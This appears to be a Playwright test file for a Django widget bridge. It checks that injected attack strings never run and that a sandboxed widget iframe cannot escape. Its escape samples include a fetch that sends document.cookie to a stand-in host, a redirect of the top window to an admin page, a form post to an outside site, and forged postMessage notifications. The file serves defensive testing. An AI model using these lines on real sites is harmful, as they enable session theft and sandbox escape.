"""Texts that try to run, and a widget that tries to get out of its sandbox."""

from typing import Any

import pytest
from django.contrib.auth.models import User
from playwright.sync_api import Browser, Frame, expect

from mcp_bridge.preview.states import STATES
from mcp_bridge.widgets.render import render_view
from tests.browser.attacks import ATTACKS
from tests.browser.conftest import OpenChat
from tests.browser.site import Site
from tests.browser.test_simulator import called, opened, staff
from tests.browser.test_views import FIRST, drawn
from tests.browser.test_widget import result
from tests.mcp_bridge.widgets.samples import BOARD, details, job_details, updated
from tests.waiting import wait_until

__all__ = ["staff"]  # a fixture

pytestmark = pytest.mark.browser

LOADED = {"get_job_details": details(job_details(0)), "update_shortlist": updated()}

# Draws each view as a result does, with every attack in the place of every text, and touches all that came of it.
DRAW = """([drawn, attacks]) => {
    const attacked = (value, attack) => {
        if (Array.isArray(value)) return value.map((item) => attacked(item, attack));
        if (value && typeof value === "object") {
            return Object.fromEntries(Object.entries(value).map(([key, item]) => [key, attacked(item, attack)]));
        }
        return typeof value === "string" ? attack : value;
    };
    const target = document.getElementById("view");
    return attacks.filter((attack) => {
        window.pwned = undefined;
        for (const [name, content] of drawn) {
            htmx.swap({ target, text: widget.render(name, attacked(content, attack)), swap: "innerHTML", sourceElement: target });
            (TOUCH)();
        }
        return window.pwned !== undefined;
    });
}"""
TOUCH = """() => {
    for (const element of document.querySelectorAll("#view *")) {
        for (const kind of ["mouseover", "focus", "toggle", "animationstart"]) element.dispatchEvent(new Event(kind));
    }
    const wrong = "script, iframe, object, embed, svg, form, link, meta, base, style, img";
    const leads = [...document.querySelectorAll("#view [href]")].map((link) => link.getAttribute("href"));
    if (document.querySelector(`#view :is(${wrong})`) || !leads.every((href) => /^(https:|$)/.test(href))) window.pwned = 1;
}"""


OURS = {"id", "view", "shortlist"}  # made by the server, and no text of anybody's


def attacked(content: Any, attack: str) -> Any:
    """The content with the attack in the place of every text."""
    if isinstance(content, dict):
        return {key: value if key in OURS else attacked(value, attack) for key, value in content.items()}
    if isinstance(content, list):
        return [attacked(value, attack) for value in content]
    return attack if isinstance(content, str) else content


def usual(widget: str) -> dict[str, Any]:
    state = next(state for state in STATES[widget] if state.slug == FIRST[widget])
    return drawn(widget, state)[1]


@pytest.mark.promise("WIDGET-19", "WIDGET-8")
@pytest.mark.parametrize("widget", STATES)
def test_no_attack_runs_in_a_chat_app(open_chat: OpenChat, widget: str) -> None:
    chat = open_chat(widget=widget, results=[result(usual(widget))])
    chat.view.locator("[data-job]").first.wait_for()
    views = [(widget, usual(widget)), *LOADED.items()]
    assert chat.view.evaluate(DRAW.replace("(TOUCH)", f"({TOUCH})"), [views, ATTACKS]) == []
    assert chat.view.evaluate("window.pwned ?? null") is chat.page.evaluate("window.pwned ?? null") is None
    assert chat.complaints == []


@pytest.mark.promise("WIDGET-19")
@pytest.mark.parametrize("attack", ATTACKS[::12])
def test_no_attack_runs_on_the_way_through_the_host(open_chat: OpenChat, attack: str) -> None:
    answers = {"read_jobs": result(attacked(LOADED["get_job_details"], attack))}
    chat = open_chat(results=[result(attacked(usual("render_jobs"), attack))], answers=answers)
    chat.view.locator(".sl-toggle").first.click()
    chat.view.locator(".sl-posting").first.wait_for()
    chat.view.evaluate(TOUCH)
    assert chat.view.evaluate("window.pwned ?? null") is None
    assert chat.complaints == []


@pytest.mark.promise("WIDGET-19")
@pytest.mark.parametrize("widget", STATES)
def test_no_attack_runs_on_our_own_pages(browser: Browser, widget: str) -> None:
    page = browser.new_page()  # without any policy, which would stop what got through
    contents = {widget: usual(widget), **LOADED}
    markup = [
        render_view(view, attacked(content, attack), board=BOARD)
        for view, content in contents.items()
        for attack in ATTACKS
    ]
    page.set_content(f"<!doctype html><div id=view>{''.join(markup)}</div>")
    page.evaluate(TOUCH)
    assert page.evaluate("window.pwned") is None
    page.context.close()


ESCAPES = {
    "reading the host's page": "() => { top.document.title = 'owned' }",
    "leading the host away": "() => { top.location.href = '/admin/' }",
    "opening a window": "() => { if (!window.open('https://a.example/')) throw new Error('no window') }",
    "reaching the network": "() => fetch('https://a.example/?' + document.cookie)",
    "loading an image": """() => new Promise((loaded, failed) => {
        const image = new Image();
        Object.assign(image, { onload: loaded, onerror: failed, src: "https://a.example/x.png" });
    })""",
    "starting a worker": """() => new Promise((ran, failed) => {
        const worker = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"])));
        Object.assign(worker, { onmessage: ran, onerror: failed });
    })""",
}


def in_the_widget(page: Any) -> Frame:
    return next(frame for frame in page.frames if frame.parent_frame and frame.parent_frame.parent_frame)


@pytest.mark.django_db(transaction=True)
@pytest.mark.promise("SIM-8", "WIDGET-8")
def test_six_ways_out_of_the_sandbox_are_shut(browser: Browser, site: Site, staff: User) -> None:
    page = opened(browser, site, staff).page
    expect(called(page).get_by_role("heading", name="Lead Barista")).to_be_visible()
    frame, address, title = in_the_widget(page), page.url, page.title()
    for name, attempt in ESCAPES.items():
        failed = frame.evaluate(f"async () => {{ try {{ await ({attempt})() }} catch {{ return true }} return false }}")
        assert (name, failed) == (name, True)
    assert (page.url, page.title(), len(page.context.pages)) == (address, title, 1)


@pytest.mark.django_db(transaction=True)
@pytest.mark.promise("SIM-8")
def test_a_form_can_not_carry_anything_out(browser: Browser, site: Site, staff: User) -> None:
    page = opened(browser, site, staff).page
    expect(called(page).get_by_role("heading", name="Lead Barista")).to_be_visible()
    asked = []
    page.on("request", lambda request: asked.append(request.url))
    in_the_widget(page).evaluate(
        """() => {
            const form = Object.assign(document.createElement("form"), { action: "https://a.example/" });
            document.body.append(form);
            form.submit();
        }"""
    )
    wait_until(
        lambda: page.locator("#violations li").count() or len(page.frames) < 3 or page.frames[-1].url != "about:blank"
    )
    assert [url for url in asked if "a.example" in url] == []


@pytest.mark.django_db(transaction=True)
@pytest.mark.promise("SIM-8")
def test_only_the_sandboxs_messages_count(browser: Browser, site: Site, staff: User) -> None:
    page = opened(browser, site, staff).page
    expect(called(page).get_by_role("heading", name="Lead Barista")).to_be_visible()
    said = {"jsonrpc": "2.0", "id": 1, "method": "ui/message", "params": {"role": "user", "content": []}}
    forged = {"jsonrpc": "2.0", "method": "ui/notifications/sandbox-csp-violation", "params": {"directive": "x"}}
    page.evaluate("message => postMessage(message, '*')", said)  # the page itself
    in_the_widget(page).evaluate("message => top.postMessage(message, '*')", said)  # past the sandbox
    in_the_widget(page).evaluate("message => parent.postMessage(message, '*')", forged)  # in the sandbox's name
    in_the_widget(page).evaluate("message => parent.postMessage(message, '*')", {**said, "id": 2})  # as it should be
    expect(page.locator("#told li")).to_have_count(1)
    expect(page.locator("#stage-facts")).to_have_text("1 mount · 0 CSP violations")
